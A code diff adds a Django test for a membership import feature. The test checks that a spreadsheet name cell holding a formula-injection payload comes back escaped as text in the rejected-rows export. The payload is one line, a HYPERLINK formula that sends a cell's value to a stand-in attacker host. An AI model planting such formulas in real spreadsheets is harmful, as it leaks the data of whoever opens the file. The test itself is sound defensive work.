@@ -169,3 +169,30 @@ def test_a_queued_batch_reports_its_progress(tree, monkeypatch):
     done = services.batch_run(batch.pk)
     assert (done.status, done.rows, done.checked_rows, done.created) == ("done", 3, 3, 3)
     assert Membership.objects.count() == 0
+
+
+def test_rejected_rows_come_back_with_formulas_written_as_text(
+    tree, client, django_capture_on_commit_callbacks
+):
+    _client_for(client, tree.district_a1, Role.OFFICER)
+    template = client.get(reverse("imports:template", args=["members"])).content
+    book = load_workbook(BytesIO(template))
+    sheet = book.worksheets[0]
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Xem")'
+    sheet.append(["", "", "Nam", "", "0905111444", "", "KHONG-CO", "QT-DUC-01", "", ""])
+    # Typed as text (a formula cell would be read as its value): how a hostile name arrives.
+    name = sheet.cell(row=sheet.max_row, column=1)
+    name.value, name.data_type = hostile, "s"
+    output = BytesIO()
+    book.save(output)
+    with django_capture_on_commit_callbacks(execute=True):
+        client.post(
+            reverse("imports:start"),
+            {"kind": "members", "mode": "valid_only", "file": _upload(output.getvalue())},
+        )
+    batch = ImportBatch.objects.get()
+    assert (batch.created, batch.rejected) == (1, 1)
+    rejected = client.get(reverse("imports:batch_rejected", args=[batch.pk]))
+    back = load_workbook(BytesIO(b"".join(rejected.streaming_content))).worksheets[0]
+    assert back["A2"].data_type == "s"
+    assert back["A2"].value == "'" + hostile
